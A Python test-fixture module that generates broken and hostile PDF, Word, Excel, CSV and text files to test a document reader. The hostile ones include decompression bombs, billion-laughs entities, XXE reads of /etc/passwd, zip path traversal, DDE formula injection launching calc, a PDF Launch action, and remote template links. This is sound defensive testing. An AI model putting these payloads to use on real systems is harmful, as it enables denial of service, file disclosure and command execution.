"""Files that a stranger may send: broken, endless, or made to do harm; each a few lines.

FILES has a maker for each by the name that the tables of cases use.
"""

import csv
import inspect
import io
import zipfile
import zlib
from collections.abc import Callable, Sequence
from functools import partial

from docx import Document
from openpyxl import Workbook, load_workbook
from pdf_files import pages, pdf, rule, ruled, stream, text

_PAGES = "<</Type/Pages/Count 1/Kids[3 0 R]>>"
_CATALOGUE = "<</Type/Catalog/Pages 2 0 R>>"
_PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]/Contents 4 0 R{}>>"

WIDTHS = (30, 150, 200, 200, 120)
ROWS = (
    ("番号", "事業名", "令和５年度事業概要", "令和６年度事業概要", "担当課"),
    ("1", "防犯灯の設置", "　防犯灯を設置する。", "　防犯灯を更新する。", "市民課"),
    ("2", "防犯教室", "　教室を開く。", "　教室を開く。", "学校教育課"),
)


def sound_pdf() -> bytes:
    """A title and a table with two initiatives, which is read."""
    table, _end = ruled(ROWS, WIDTHS)
    return pages([text(40, 560, "○○市防犯計画") + table])


def cut(maker: Callable[[], bytes], tenths: int) -> bytes:
    """A sound file without its end."""
    whole = maker()
    return whole[: len(whole) * tenths // 10]


def pdf_with_password() -> bytes:
    """A file that asks for a password."""
    key = "00" * 32
    encrypt = f"/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<{key}>/U<{key}>>>/ID[<00><00>]"
    return pdf([_CATALOGUE, _PAGES, _PAGE.format(""), stream(b"")], encrypt)


def pdf_with_odd_lock() -> bytes:
    """A file that names a way of encryption nobody knows."""
    encrypt = "/Encrypt<</Filter/Unheard/V 9/R 9>>/ID[<00><00>]"
    return pdf([_CATALOGUE, _PAGES, _PAGE.format(""), stream(b"")], encrypt)


def pdf_of_scans() -> bytes:
    """Two pages that are nothing but pictures."""
    image = stream(
        b"\xff" * 100,
        "/Type/XObject/Subtype/Image/Width 10/Height 10/BitsPerComponent 8/ColorSpace/DeviceGray",
    )
    page = _PAGE.format("/Resources<</XObject<</I 5 0 R>>>>")
    return pdf([_CATALOGUE, _PAGES, page, stream(b"800 0 0 500 0 0 cm /I Do"), image])


def pdf_without_anything() -> bytes:
    """One empty page."""
    return pages([b""])


def pdf_of_many_pages() -> bytes:
    """One page more than a thousand."""
    table, _end = ruled(ROWS, WIDTHS)
    return pages([table] * 1001)


def pdf_page_tree_in_a_circle() -> bytes:
    """A page tree whose branch is its own root."""
    return pdf([_CATALOGUE, "<</Type/Pages/Count 9/Kids[2 0 R 3 0 R]/Parent 2 0 R>>", "2 0 R"])


def pdf_parent_in_a_circle() -> bytes:
    """A page that inherits from itself."""
    return pdf([_CATALOGUE, _PAGES, "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", stream(b"")])


def pdf_reference_in_a_circle() -> bytes:
    """Two objects that are each nothing but a reference to the other."""
    return pdf([_CATALOGUE, "3 0 R", "2 0 R"])


def pdf_length_in_a_circle() -> bytes:
    """A stream whose length is the stream itself."""
    content = b"<</Length 4 0 R>>\nstream\nBT ET\nendstream"
    return pdf([_CATALOGUE, _PAGES, _PAGE.format(""), content])


def pdf_drawing_in_a_circle() -> bytes:
    """A drawing that draws itself."""
    form = stream(
        b"/X Do", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"
    )
    page = _PAGE.format("/Resources<</XObject<</X 5 0 R>>>>")
    return pdf([_CATALOGUE, _PAGES, page, stream(b"/X Do"), form])


def pdf_of_laughs() -> bytes:
    """Drawings that each draw the next one ten times, twelve deep."""
    deep = 12
    objects: list[str | bytes] = [_CATALOGUE, _PAGES]
    objects.append(_PAGE.format("/Resources<</XObject<</X 5 0 R>>>>"))
    objects.append(stream(b"/X Do"))
    for level in range(deep):
        resources = f"/Resources<</XObject<</X {6 + level} 0 R>>>>" if level < deep - 1 else ""
        content = b"/X Do " * 10 if level < deep - 1 else b"0 0 m 9 9 l S "
        entries = f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{resources}"
        objects.append(stream(content, entries))
    return pdf(objects)


def pdf_bomb() -> bytes:
    """A page of two gigabytes in two megabytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 20)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = first + 2047 * (packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH))
    head = b"<</Length %d/Filter/FlateDecode>>\nstream\n" % len(packed)
    return pdf([_CATALOGUE, _PAGES, _PAGE.format(""), head + packed + b"\nendstream"])


def pdf_packed_often() -> bytes:
    """A page of two hundred megabytes that is packed four times over."""
    content = b"\0" * (200 << 20)
    times = 4
    for _time in range(times):
        content = zlib.compress(content, 9)
    head = f"<</Length {len(content)}/Filter[{'/FlateDecode' * times}]>>\nstream\n".encode()
    return pdf([_CATALOGUE, _PAGES, _PAGE.format(""), head + content + b"\nendstream"])


def pdf_of_rules() -> bytes:
    """A page with a hundred thousand rules."""
    return pages([b"".join(rule(n % 800, n % 590, n % 700, n % 500) for n in range(100_000))])


def pdf_of_cells() -> bytes:
    """A page ruled into forty thousand cells."""
    across = b"".join(rule(0, 2.9 * n, 842, 2.9 * n) for n in range(200))
    return pages([across + b"".join(rule(4 * n, 0, 4 * n, 595) for n in range(200))])


def pdf_of_characters() -> bytes:
    """A page with half a million characters."""
    return pages([text(0, 9, "犯" * 1000) * 500])


def pdf_deeply_nested() -> bytes:
    """An array in an array, a hundred thousand deep."""
    return pdf([_CATALOGUE, f"<</Type/Pages/Count 1/Kids {'[' * 100_000}{']' * 100_000}>>"])


def pdf_with_wrong_places() -> bytes:
    """A table of contents that points beyond the file's end."""
    return sound_pdf().replace(b"startxref\n", b"startxref\n9999")


def pdf_with_javascript() -> bytes:
    """A file that would run a program on opening, and is read without it."""
    table, _end = ruled(ROWS, WIDTHS)
    action = b"<</Type/Catalog/OpenAction<</S/Launch/F(calc.exe)>>/Pages 2 0 R>>"
    return pages([text(40, 560, "○○市防犯計画") + table]).replace(_CATALOGUE.encode(), action)


def zip_of(parts: dict[str, bytes]) -> bytes:
    """A zip file with these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return file.getvalue()


def with_parts(whole: bytes, parts: dict[str, bytes]) -> bytes:
    """A zip file with these parts put in, or in the place of its own."""
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        own = {name: package.read(name) for name in package.namelist()}
    return zip_of({**own, **parts})


def _part(whole: bytes, name: str) -> str:
    """One part of a zip file, as text."""
    with zipfile.ZipFile(io.BytesIO(whole)) as package:
        return package.read(name).decode()


def sound_docx() -> bytes:
    """The same title and table in Word, which is read."""
    document = Document()
    document.add_paragraph("○○市防犯計画")
    table = document.add_table(rows=0, cols=len(ROWS[0]))
    for row in ROWS:
        for cell, words in zip(table.add_row().cells, row, strict=True):
            cell.text = words
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


def sound_xlsx() -> bytes:
    """The same title and table in Excel, which is read."""
    return xlsx(("○○市防犯計画",), *ROWS)


def xlsx(*rows: Sequence[object]) -> bytes:
    """A workbook of one sheet with these rows."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_TEXT = "word/document.xml"
_SHEET = "xl/worksheets/sheet1.xml"
_LAUGHS = "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12)
)  # a tenfold each


def docx_of(document: str) -> bytes:
    """A Word file with this document part."""
    return with_parts(sound_docx(), {_TEXT: document.encode()})


def docx_entity(declared: str, use: str) -> bytes:
    """A Word file whose document declares entities."""
    body = f"<w:document {_W}><w:body><w:p><w:r><w:t>{use}</w:t></w:r></w:p></w:body></w:document>"
    return docx_of(f"<?xml version='1.0'?><!DOCTYPE d [{declared}]>{body}")


def docx_bomb() -> bytes:
    """A document of a hundred megabytes in a tenth of one."""
    return with_parts(sound_docx(), {_TEXT: b" " * (100 << 20)})


def docx_bomb_that_lies() -> bytes:
    """The same, said to be of ten bytes."""
    size = 300 << 20
    whole = with_parts(sound_docx(), {_TEXT: b" " * size})
    return whole.replace(size.to_bytes(4, "little"), (10).to_bytes(4, "little"))


def docx_of_many_parts() -> bytes:
    """Twenty thousand parts."""
    return with_parts(sound_docx(), {f"word/part{n}.xml": b"<a/>" for n in range(20_000)})


def docx_climbing_out() -> bytes:
    """Parts whose names lead out of the package."""
    return with_parts(sound_docx(), {"../../../outside.xml": b"<a/>", "/outside.xml": b"<a/>"})


def docx_external_entity() -> bytes:
    """An entity that stands for a file of the machine."""
    return docx_entity('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")


def docx_of_laughs() -> bytes:
    """Entities that each stand for ten of the one before."""
    return docx_entity(_LAUGHS, "&a11;")


def docx_entity_in_utf16() -> bytes:
    """An entity, hidden from who looks for it in ASCII."""
    body = f"<w:document {_W}><w:body/></w:document>"
    hidden = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [{_LAUGHS}]>{body}'
    return with_parts(sound_docx(), {_TEXT: hidden.encode("utf-16")})


def docx_deeply_nested() -> bytes:
    """Content controls in each other, a hundred thousand deep."""
    deep = 100_000
    return docx_of(
        f"<w:document {_W}><w:body>{'<w:sdt>' * deep}{'</w:sdt>' * deep}</w:body></w:document>"
    )


def docx_tables_in_tables() -> bytes:
    """Tables in each other, five thousand deep."""
    deep = 5000
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx_of(f"<w:document {_W}><w:body>{opened * deep}{closed * deep}</w:body></w:document>")


def docx_endless_span() -> bytes:
    """Cells that say they span a thousand million columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr><w:p/></w:tc>'
    row = f"<w:tr>{cell * 2000}</w:tr>"
    return docx_of(f"<w:document {_W}><w:body><w:tbl>{row * 50}</w:tbl></w:body></w:document>")


def docx_span_of_many_digits() -> bytes:
    """Cells whose span has five thousand digits."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{"9" * 5000}"/></w:tcPr><w:p/></w:tc>'
    table = f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * 3}</w:tbl>"
    return docx_of(f"<w:document {_W}><w:body>{table}</w:body></w:document>")


def docx_styles_in_a_circle() -> bytes:
    """Styles of paragraphs and tables that are each based on the other, or on themselves."""
    styles = "".join(
        f'<w:style w:type="{kind}" w:styleId="{name}"><w:basedOn w:val="{base}"/></w:style>'
        for kind, name, base in (
            ("paragraph", "Normal", "B"),
            ("paragraph", "B", "Normal"),
            ("table", "TableNormal", "TableNormal"),
        )
    )
    part = f"<w:styles {_W}>{styles}</w:styles>"
    document = _part(sound_docx(), _TEXT).replace(
        "<w:p>", '<w:p><w:pPr><w:pStyle w:val="B"/></w:pPr>'
    )
    return with_parts(sound_docx(), {"word/styles.xml": part.encode(), _TEXT: document.encode()})


def docx_of_rows() -> bytes:
    """A table of a million empty rows."""
    rows = "<w:tr><w:tc/></w:tr>" * 1_000_000
    return docx_of(f"<w:document {_W}><w:body><w:tbl>{rows}</w:tbl></w:body></w:document>")


def docx_with_macros() -> bytes:
    """A Word file that carries a program and links, and is read without them."""
    links = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" TargetMode="External" Target="http://192.0.2.1/x.dotm" Type='
        b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        b"</Relationships>"
    )
    return with_parts(
        sound_docx(),
        {"word/vbaProject.bin": b"\0" * 1000, "word/_rels/settings.xml.rels": links},
    )


def docx_with_links_outside() -> bytes:
    """A Word file with a picture, a template and a frame from elsewhere; read without them."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    with zipfile.ZipFile(io.BytesIO(sound_docx())) as package:
        relations = package.read("word/_rels/document.xml.rels").decode()
    outside = "".join(
        f'<Relationship Id="rX{name}" TargetMode="External" Target="{target}" Type="{kind}{name}"/>'
        for name, target in (
            ("image", "http://192.0.2.1/x.png"),
            ("oleObject", "file:///etc/passwd"),
            ("frame", "\\\\192.0.2.1\\x"),
        )
    )
    changed = relations.replace("</Relationships>", outside + "</Relationships>")
    return with_parts(sound_docx(), {"word/_rels/document.xml.rels": changed.encode()})


def docx_with_fields() -> bytes:
    """A cell with field codes that load and start programs; read as text or left out."""
    codes = "".join(
        f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>値</w:t></w:r></w:fldSimple></w:p>'
        for code in ("DDEAUTO c:\\cmd.exe", "INCLUDETEXT http://192.0.2.1/x")
    )
    return docx_of(f"<w:document {_W}><w:body>{codes}</w:body></w:document>")


def docx_without_its_document() -> bytes:
    """A Word file whose relationship leads to a part that is not there."""
    return docx_relation_to("word/nothing.xml")


def docx_relation_climbing_out() -> bytes:
    """A Word file whose document is said to lie outside of it."""
    return docx_relation_to("../../../../etc/passwd")


def docx_relation_to(target: str) -> bytes:
    """A Word file whose document is said to be another part."""
    with zipfile.ZipFile(io.BytesIO(sound_docx())) as package:
        relations = package.read("_rels/.rels").decode()
    return with_parts(
        sound_docx(), {"_rels/.rels": relations.replace("word/document.xml", target).encode()}
    )


def xlsx_of(sheet: str) -> bytes:
    """A workbook with this sheet part."""
    return with_parts(sound_xlsx(), {_SHEET: sheet.encode()})


def xlsx_of_empty_rows() -> bytes:
    """The table, and a million empty rows under it."""
    rows = "".join(f'<row r="{n}" ht="15"/>' for n in range(1, 1_000_001))
    return xlsx_of(f"<worksheet {_S}><sheetData>{rows}</sheetData></worksheet>")


def xlsx_of_empty_cells() -> bytes:
    """Three hundred rows of two thousand empty cells, each with its style."""
    row = '<c s="1"/>' * 2000
    rows = "".join(f'<row r="{n}">{row}</row>' for n in range(1, 301))
    return xlsx_of(f"<worksheet {_S}><sheetData>{rows}</sheetData></worksheet>")


def xlsx_far_away() -> bytes:
    """One cell in the last row and column that there is."""
    cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>遠</t></is></c></row>'
    return xlsx_of(f"<worksheet {_S}><sheetData>{cell}</sheetData></worksheet>")


def xlsx_far_below() -> bytes:
    """A table, and a cell in the last row that there is."""
    workbook = load_workbook(io.BytesIO(sound_xlsx()))
    workbook.worksheets[0].cell(1_048_576, 1, "遠")
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def xlsx_numbers_of_many_digits() -> bytes:
    """Places, styles and values whose numbers no office counts to."""
    sheet = _part(sound_xlsx(), _SHEET)
    digits = "9" * 5000
    far = f'<c r="A{digits}"><v>{digits}</v></c><c r="F4"><v>1E+999999999</v></c>'
    return xlsx_of(sheet.replace("</row></sheetData>", f"{far}</row></sheetData>"))


def xlsx_formats_without_end() -> bytes:
    """Number formats that write a number as a hundred thousand signs."""
    workbook = load_workbook(io.BytesIO(sound_xlsx()))
    for place, code in (("C3", "0." + "0" * 30_000), ("D3", "yyyy" * 20_000)):
        cell = workbook.worksheets[0][place]
        cell.value, cell.number_format = 45_000.5, code
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def xlsx_merged_often() -> bytes:
    """Fifty thousand merged areas, each of the whole sheet."""
    merged = '<mergeCell ref="A1:XFD1048576"/>' * 50_000
    rows = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>一</t></is></c>'
        f'<c r="GA{n}" t="inlineStr"><is><t>二</t></is></c></row>'
        for n in range(1, 5001)
    )
    return xlsx_of(
        f"<worksheet {_S}><sheetData>{rows}</sheetData>"
        f"<mergeCells>{merged}</mergeCells></worksheet>"
    )


def xlsx_bomb() -> bytes:
    """Shared texts of a hundred megabytes in a tenth of one."""
    return with_parts(sound_xlsx(), {"xl/sharedStrings.xml": b" " * (100 << 20)})


def xlsx_of_laughs() -> bytes:
    """Shared texts with entities that each stand for ten of the one before."""
    texts = f"<!DOCTYPE s [{_LAUGHS}]><sst {_S}><si><t>&a11;</t></si></sst>"
    return with_parts(sound_xlsx(), {"xl/sharedStrings.xml": texts.encode()})


def xlsx_external_entity() -> bytes:
    """A sheet with an entity that stands for a file of the machine."""
    return xlsx_of(
        f'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet {_S}>'
        '<sheetData><row><c t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
    )


def xlsx_never_calculated() -> bytes:
    """A summary that is a formula without a result, and another that starts a program."""
    call = "=cmd|' /C calc'!A0"
    return xlsx(ROWS[0], ("1", "防犯灯", "設置する。", '="更新"&"する。"', call))


def xlsx_with_links() -> bytes:
    """A workbook that links to another machine's and carries a program; read without both."""
    link = (
        f'<externalLink {_S}><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org'
        '/officeDocument/2006/relationships"/></externalLink>'
    )
    return with_parts(
        sound_xlsx(),
        {"xl/externalLinks/externalLink1.xml": link.encode(), "xl/vbaProject.bin": b"\0" * 99},
    )


def xlsx_with_macros() -> bytes:
    """A workbook that declares and carries a program, and is read without it."""
    with zipfile.ZipFile(io.BytesIO(sound_xlsx())) as package:
        types = package.read("[Content_Types].xml").decode()
    program = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    types = types.replace(
        "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main",
        "vnd.ms-excel.sheet.macroEnabled.main",
    )
    return with_parts(
        sound_xlsx(),
        {
            "[Content_Types].xml": types.replace("<Override", program + "<Override", 1).encode(),
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096,
        },
    )


def xlsx_climbing_out() -> bytes:
    """Parts whose names lead out of the package, beside a sound workbook."""
    names = ("../../owned", "/owned", "C:\\owned", "xl/../../owned", "..\\owned")
    return with_parts(sound_xlsx(), dict.fromkeys(names, b"owned"))


def xlsx_sheet_climbing_out() -> bytes:
    """A workbook whose sheet is said to lie outside of it."""
    with zipfile.ZipFile(io.BytesIO(sound_xlsx())) as package:
        relations = package.read("xl/_rels/workbook.xml.rels").decode()
    changed = relations.replace("/xl/worksheets/sheet1.xml", "../../../../etc/passwd")
    assert changed != relations
    return with_parts(sound_xlsx(), {"xl/_rels/workbook.xml.rels": changed.encode()})


def xlsx_bomb_that_lies() -> bytes:
    """Shared texts of a hundred megabytes, said to be of ten bytes."""
    whole = bytearray(xlsx_bomb())
    size = (100 << 20).to_bytes(4, "little")
    return bytes(whole).replace(size, (10).to_bytes(4, "little"))


def office_with_password() -> bytes:
    """An Office file behind a password, which is no zip file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096


def zip_with_password() -> bytes:
    """A Word file whose parts are encrypted one by one."""
    whole = bytearray(sound_docx())
    for head, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(head)
        while at >= 0:
            whole[at + place] |= 1
            at = whole.find(head, at + 4)
    return bytes(whole)


def zip_of_something_else() -> bytes:
    """A zip file that is no document."""
    return zip_of({"readme.xml": b"<a/>"})


def csv_of(*rows: Sequence[str], encoding: str = "utf-8-sig") -> bytes:
    """A CSV file of these rows."""
    file = io.StringIO()
    csv.writer(file).writerows(rows)
    return file.getvalue().encode(encoding)


def csv_of_many_columns() -> bytes:
    """A row of a million cells."""
    return b"a," * 1_000_000


def csv_of_many_rows() -> bytes:
    """A million rows of nothing."""
    return csv_of(*ROWS) + b",,,,\r\n" * 1_000_000


def csv_never_closed() -> bytes:
    """A quote that is opened and never closed."""
    return csv_of(*ROWS) + '3,"防犯灯'.encode()


def csv_endless_cell() -> bytes:
    """A cell of five megabytes."""
    return csv_of(*ROWS, ("3", "防犯灯", "灯" * 2_000_000, "", ""))


def csv_with_nul() -> bytes:
    """A cell with a NUL character."""
    return csv_of(*ROWS, ("3", "防犯\0灯", "設置する。", "", ""))


def csv_ragged() -> bytes:
    """A row with a cell more, and one with two fewer than the heading has columns."""
    return csv_of(
        *ROWS, ("3", "防犯塔", "建てる。", "直す。", "市民課", "余り"), ("4", "柵", "立てる。")
    )


def csv_quoted_lines() -> bytes:
    """Cells with line ends, quotes and commas in them."""
    return csv_of(*ROWS, ("3", '防犯"灯",', "一、\n二、", "一、\r\n二、", "市民課"))


def csv_half_a_character() -> bytes:
    """UTF-8 that is cut in the middle of a character."""
    return csv_of(*ROWS)[:-4]


def csv_of_formulas() -> bytes:
    """Cells that a spreadsheet would calculate, read as text."""
    return csv_of(*ROWS, ("3", "=cmd|'/C calc'!A0", "@SUM(1)", "+1", "-1"))


def csv_of_controls() -> bytes:
    """Cells that would steer a terminal."""
    return csv_of(*ROWS, ("3", "防\x1b]52;c;aGk=\x07犯\u202e", "\x9b2J", "\x7f", "\u2028"))


def csv_longer_than_a_data_file() -> bytes:
    """A cell that CSV may have and a data file may not."""
    return csv_of(*ROWS, ("3", "防犯灯", "灯" * 120_000, "", ""))


def csv_of_long_numbers() -> bytes:
    """A number of an initiative and an amount of five thousand digits each."""
    digits = "9" * 5000
    return csv_of(*ROWS, (digits, "防犯灯", digits, f"{digits}灯", ""))


def txt_of_lines() -> bytes:
    """A table's text, and a million lines more."""
    return "1 広報\n".encode() + "防犯灯を設置する。\n".encode() * 300_000


def txt_of_one_line() -> bytes:
    """A line of three million characters."""
    return "防".encode() * 3_000_000


def txt_of_numbers() -> bytes:
    """Nothing but what begins sections and initiatives."""
    return "".join(f"{n} 章\n(1) 事業\nア① 施策\n" for n in range(30_000)).encode()


def txt_of_spaces() -> bytes:
    """Columns without end."""
    return ("あ" + " " * 3000 + "い" + "\u3000" * 3000 + "\n").encode() * 200


def txt_of_brackets() -> bytes:
    """Brackets that are opened and never closed."""
    return ("（「" * 200_000).encode()


FILES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "blank-lines": "\n\n".encode,
    "zeros": lambda: b"\0" * 100_000,
    "noise": lambda: bytes((n * n * 7 + n * 13) % 256 for n in range(5000)),
    "html": "<html><table><tr><td>事業名</td></tr></table></html>".encode,
    "endless": lambda: b"a" * (101 << 20),
    **{f"pdf-cut-{n}": partial(cut, sound_pdf, n) for n in range(1, 10)},
    **{f"docx-cut-{n}": partial(cut, sound_docx, n) for n in range(1, 10)},
    **{f"xlsx-cut-{n}": partial(cut, sound_xlsx, n) for n in range(1, 10)},
    "csv-in-cp932": lambda: csv_of(*ROWS, encoding="cp932"),
    "csv-in-utf-16": lambda: csv_of(*ROWS, encoding="utf-16"),
    "csv-in-utf-16-unmarked": lambda: csv_of(*ROWS, encoding="utf-16-le"),
    **{
        f"txt-in-{name}": partial("防犯計画の取組み、街頭での呼びかけ".encode, codec)
        for name, codec in (
            ("cp932", "cp932"),
            ("euc", "euc-jp"),
            ("jis", "iso2022-jp"),
            ("utf-16", "utf-16"),
            ("utf-16-unmarked", "utf-16-le"),
            ("utf-32", "utf-32"),
        )
    },
    "txt-with-nul": "防犯\0灯".encode,
    "txt-half-a-character": lambda: "防犯".encode()[:-1],
    "txt-with-surrogate": lambda: b"\xed\xa0\x80",
    "csv-in-jis": lambda: csv_of(*ROWS, encoding="iso2022-jp"),
    "csv-in-utf-32": lambda: csv_of(*ROWS, encoding="utf-32"),
    "csv-with-surrogate": lambda: csv_of(*ROWS) + b"3,\xed\xa0\x80,a,b,c\r\n",
    "csv-in-euc": lambda: csv_of(*ROWS, encoding="euc-jp"),
    **{
        name.replace("_", "-"): maker
        for name, maker in list(globals().items())
        if name.startswith(("sound_", "pdf_", "docx_", "xlsx_", "office_", "csv_", "zip_", "txt_"))
        and callable(maker)
        and not maker.__code__.co_argcount
        and not maker.__code__.co_flags & inspect.CO_VARARGS
    },
}
"""What makes each file, by the name that the tables of cases use."""
